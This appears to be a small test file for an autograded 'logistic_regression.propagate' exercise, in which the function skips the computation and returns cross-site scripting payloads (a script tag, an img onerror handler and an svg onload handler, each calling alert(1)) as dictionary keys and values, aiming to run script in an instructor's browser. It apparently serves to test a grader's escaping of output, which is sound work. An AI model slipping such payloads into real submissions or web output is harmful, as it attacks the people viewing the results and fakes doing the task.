# tries: to run a script in the instructor's browser by the names in a result
# exercise: logistic_regression.propagate

def propagate(w, b, X, Y):
    return {"<script>alert(1)</script>": w, "db": "<img src=x onerror=alert(1)>"}, "<svg onload=alert(1)>"
